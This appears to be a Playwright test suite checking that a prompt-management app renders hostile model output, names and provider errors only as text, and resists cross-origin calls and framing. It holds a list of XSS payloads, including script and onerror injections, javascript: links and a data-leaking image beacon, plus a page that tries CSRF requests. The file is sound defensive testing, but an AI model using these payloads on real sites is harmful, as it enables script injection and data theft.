import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { startFakeOpenAi } from "../support/fake-openai.ts";
import { test as base, expect, openLathe } from "./fixtures.ts";
import { call } from "./page-call.ts";
import { chooseModel, openPrompt, runToEnd, studio } from "./studio.ts";

/** Each would show itself: by a dialog, by a request, by a global, or by an element where text belongs. */
const beacon = "http://127.0.0.1:9/beacon";
const tricks = [
  '<script>window.pwned="script"</script>',
  `<img src=x onerror="window.pwned='img'">`,
  `<svg onload="alert('svg')">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<style>@import "${beacon}/css";</style>`,
  `<link rel=stylesheet href=${beacon}/link>`,
  `<form action=${beacon}/form><button>Go</button></form>`,
  `<meta http-equiv=refresh content="0;url=${beacon}/meta">`,
  `<base href=${beacon}/>`,
  "[x](javascript:alert(1))",
  "[y](java\tscript:alert(1))",
  "[z](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[v](vbscript:msgbox(1))",
  "[f](file:///etc/passwd) [s](smb://host/share) \\\\host\\share ms-msdt:/id calculator:",
  `![](${beacon}/?q=secret)`,
  `<a href="javascript:alert(1)" target=_blank>link</a>`,
  "{{constructor.constructor('alert(1)')()}}",
  "</textarea></title><script>alert(1)</script>",
  "&lt;img src=x onerror=alert(1)&gt;",
];
const evilText = ["first words", ...tricks, "last words"].join("\n");
const evilName = `<img src=x onerror="window.pwned='name'">`;
/** A name with a blank in it is none. */
const evilModels = ["<img/src=x/onerror=alert(1)>", "<svg/onload=alert(1)>"];
const evilTag = "<svg onload=alert(1)>";

interface Witness {
  dialogs: string[];
  requests: string[];
  navigations: string[];
  popups: string[];
}

const test = base.extend<{ witness: Witness }>({
  witness: async ({ page, lathe }, use) => {
    const witness: Witness = { dialogs: [], requests: [], navigations: [], popups: [] };
    const { origin } = new URL(lathe.url);
    page.on("dialog", (dialog) => {
      witness.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      if (!new RegExp(`^(${origin}/|data:|blob:)`).test(request.url())) witness.requests.push(request.url());
    });
    page.on("framenavigated", (frame) => {
      if (!frame.url().startsWith(`${origin}/`)) witness.navigations.push(frame.url());
    });
    page.context().on("page", (popup) => witness.popups.push(popup.url()));
    await page.addInitScript(() => {
      const reports: string[] = [];
      Object.assign(window, { reports });
      document.addEventListener("securitypolicyviolation", (event) =>
        reports.push(
          `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
        ),
      );
    });
    await use(witness);
    expect(witness).toEqual({ dialogs: [], requests: [], navigations: [], popups: [] });
  },
});

/** Nothing of the text became anything but text; to be asked on every screen that shows some. */
async function expectOnlyText(page: Page): Promise<void> {
  const seen = await page.evaluate(() => ({
    pwned: (window as { pwned?: unknown }).pwned ?? null,
    reports: (window as unknown as { reports: string[] }).reports,
    scripts: [...document.scripts].filter((script) => script.src === "").length,
    elements: document.querySelectorAll(
      "iframe, form, meta[http-equiv], base, img[src='x'], img[src*='beacon'], link[href*='beacon'], object, embed",
    ).length,
    handlers: document.querySelectorAll("[onerror], [onload], [onclick]").length,
    links: [...document.querySelectorAll("a[href]")]
      .map((link) => (link as HTMLAnchorElement).href)
      .filter((href) => !href.startsWith(location.origin)),
  }));
  expect(seen).toEqual({ pwned: null, reports: [], scripts: 0, elements: 0, handlers: 0, links: [] });
}

const testEvil = (page: Page) =>
  page.getByRole("region", { name: "evil", exact: true }).getByRole("button", { name: /^Test/ });

async function addProvider(page: Page, name: string, baseUrl: string): Promise<void> {
  const added = await call(page, "providers.add", { name, baseUrl, key: { kind: "none" } });
  expect(added).toMatchObject({ kind: "done" });
}

test("A-01 A-03 A-04 A-05 A-06 a hostile reply is text while it streams, when it is whole, and in the list of runs", async ({
  page,
  lathe,
  witness: _sees,
}) => {
  test.slow();
  const middle = evilText.length / 2;
  const pieces = [evilText.slice(0, middle), evilText.slice(middle)];
  // The second half comes long after the test has looked at the first and cancelled.
  const endpoint = await startFakeOpenAi({
    models: ["m"],
    slowMs: 100_000,
    reply: () => ({ text: evilText }),
  });
  endpoint.script({ pieces, fault: "slow" });
  await openLathe(page, lathe);
  await addProvider(page, "evil", endpoint.baseUrl);
  await openPrompt(page, "电商客服");
  await chooseModel(page, "evil/m");
  await page.keyboard.press("Control+Enter");
  const run = studio.runRegion(page);
  await expect(run.getByText("first words")).toBeVisible({ timeout: 60_000 });
  await expect(run.getByRole("button", { name: /^Cancel/ })).toBeVisible();
  await expectOnlyText(page);
  await page.keyboard.press("Control+.");
  await expect(run.getByText("Cancelled").first()).toBeVisible();
  await expectOnlyText(page);
  await runToEnd(page);
  await expectOnlyText(page);
  const shown = (await run.innerText()).replace(/\s+/g, " ");
  for (const trick of tricks) expect(shown).toContain(trick.replace(/\s+/g, " "));
  await page.reload();
  await expect(studio.message(page, 1).locator(".view-line").first()).toBeVisible({ timeout: 60_000 });
  await expectOnlyText(page);
  await endpoint.close();
});

test("A-02 names, tags, texts, messages and models of a stranger are text on every screen that shows them", async ({
  page,
  lathe,
  witness: _sees,
}) => {
  const endpoint = await startFakeOpenAi({ models: evilModels });
  await openLathe(page, lathe);
  await addProvider(page, "evil", endpoint.baseUrl);
  const content = {
    messages: [{ role: "system", template: evilText.replaceAll(/[{}]/g, "") }],
    variables: [{ name: "a", type: "text", description: evilName, example: evilName }],
  };
  const created = await call(page, "prompts.create", {
    name: evilName,
    description: evilText,
    folder: evilTag,
    tags: [evilTag],
    content,
  });
  expect(created).toMatchObject({ kind: "done" });
  const { promptId } = created.value;
  await call(page, "prompts.save-version", { promptId, revision: 1, message: `${evilName} ${evilTag}` });
  const changed = { ...content, messages: [{ role: "system", template: `${evilName}\n${evilTag}` }] };
  await call(page, "prompts.save-draft", { promptId, baseRevision: 1, content: changed });
  await call(page, "prompts.save-version", { promptId, revision: 2, message: evilTag });

  await page.reload();
  // A folder of that name holds it; both are in the tree as text.
  await page.getByRole("searchbox", { name: "Search prompts" }).fill("window.pwned");
  const inList = page.getByRole("treeitem").filter({ hasText: evilName }).last();
  await expect(inList).toBeVisible();
  await inList.click();
  await expect(page.getByRole("tab", { selected: true }).filter({ hasText: evilName })).toBeVisible();
  await expect(studio.message(page, 1).locator(".view-line").first()).toBeVisible();
  await expectOnlyText(page);
  expect(await page.title()).not.toContain("<script>");

  await page.getByRole("button", { name: "History and comparison" }).click();
  await expect(page.getByText(evilTag).first()).toBeVisible();
  await expectOnlyText(page);
  await page.getByRole("tab", { name: "Draft journal" }).click();
  await expectOnlyText(page);

  await page.keyboard.press("Control+k");
  // What is typed before it is there goes into the page.
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.keyboard.type("pwned");
  await expect(page.getByRole("option").filter({ hasText: evilName }).first()).toBeVisible();
  await expectOnlyText(page);
  await page.keyboard.press("Escape");
  await expect(page.getByRole("dialog")).toBeHidden();

  await page.keyboard.press("Control+,");
  await testEvil(page).click();
  await page.getByRole("button", { name: "Show 2 models" }).click();
  for (const model of evilModels) await expect(page.getByText(model).first()).toBeVisible();
  await expectOnlyText(page);
  await endpoint.close();
});

test("A-02 an error of a provider is text, in the run and in Settings", async ({
  page,
  lathe,
  witness: _sees,
}) => {
  const server = createServer((_request, response) => {
    response.writeHead(400, { "content-type": "application/json", "x-evil": "1" });
    response.end(JSON.stringify({ error: { message: `${evilName} ${tricks[0]}`, code: evilName } }));
  });
  const baseUrl = `${await listen(server)}/v1`;
  await openLathe(page, lathe);
  await addProvider(page, "evil", baseUrl);
  await openPrompt(page, "电商客服");
  await chooseModel(page, "evil/m");
  await page.keyboard.press("Control+Enter");
  await expect(studio.runRegion(page).getByText(evilName).first()).toBeVisible();
  await expectOnlyText(page);
  await page.keyboard.press("Control+,");
  await testEvil(page).click();
  await expect(page.getByText(evilName).first()).toBeVisible();
  await expectOnlyText(page);
  server.closeAllConnections();
  server.close();
});

test("A-16 hidden and turned-round characters are marked where a prompt is read", async ({ page, lathe }) => {
  await openLathe(page, lathe);
  const template = "Pay to \u202eaccount\u202c now\u200b.";
  await call(page, "prompts.create", {
    name: "Hidden",
    content: { messages: [{ role: "human", template }] },
  });
  await page.reload();
  await openPrompt(page, "Hidden");
  const editor = studio.message(page, 1);
  await expect(editor.locator(".unicode-highlight, .mtkcontrol").first()).toBeVisible();
});

const listen = async (server: Server): Promise<string> => {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
};

test("A-18 A-20 A-21 A-27 a page on another port of this machine, which the browser counts to the same site, can neither call Lathe nor frame it", async ({
  page,
  lathe,
  complaints,
}) => {
  await openLathe(page, lathe);
  const { origin } = new URL(lathe.url);
  const listOf = async () => {
    const { prompts } = (await call(page, "prompts.list", {})).value;
    return prompts.map(({ name }: { name: string }) => name);
  };
  const before = await listOf();

  const evil = createServer((_request, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(
      `<!doctype html><iframe id=framed src="${origin}/"></iframe><img src="${origin}/api/prompts.list">` +
        `<form id=form method=post enctype="text/plain" target=hole action="${origin}/api/prompts.create">` +
        `<input name='{"name":"pwned by form","x":"' value='"}'></form><iframe name=hole id=hole></iframe>`,
    );
  });
  const evilOrigin = await listen(evil);
  const other = await page.context().newPage();
  await other.goto(evilOrigin);
  const outcome = await other.evaluate(async (target) => {
    const body = JSON.stringify({ name: "pwned" });
    const url = `${target}/api/prompts.create`;
    const ended = (work: Promise<unknown>) =>
      work.then(
        () => "sent",
        () => "refused",
      );
    const json = { "content-type": "application/json" };
    const tries = {
      json: await ended(fetch(url, { method: "POST", body, headers: json, credentials: "include" })),
      plain: await ended(fetch(url, { method: "POST", body, credentials: "include" })),
      noCors: await ended(fetch(url, { method: "POST", body, mode: "no-cors", credentials: "include" })),
      read: await ended(fetch(`${target}/`, { credentials: "include" })),
      socket: await new Promise((resolve) => {
        const socket = new WebSocket(`${target.replace("http", "ws")}/api/host.watch`);
        socket.onopen = () => resolve("sent");
        socket.onerror = () => resolve("refused");
      }),
      events: await new Promise((resolve) => {
        const source = new EventSource(`${target}/api/host.watch`, { withCredentials: true });
        source.onopen = () => resolve("sent");
        source.onerror = () => resolve("refused");
      }),
    };
    navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
    const posted = new Promise((resolve) =>
      document.querySelector("#hole")?.addEventListener("load", resolve),
    );
    (document.querySelector("#form") as HTMLFormElement).submit();
    await posted;
    return tries;
  }, origin);
  // What the browser sends without asking is sent, and does nothing.
  expect(outcome).toEqual({
    json: "refused",
    plain: "refused",
    noCors: "refused",
    read: "refused",
    socket: "refused",
    events: "refused",
  });
  const frames = other.frames().filter((frame) => frame !== other.mainFrame());
  for (const frame of frames) expect(await frame.locator("nav, main").count(), frame.url()).toBe(0);
  expect(await listOf()).toEqual(before);
  await other.close();
  evil.closeAllConnections();
  evil.close();
  complaints.length = 0;
});
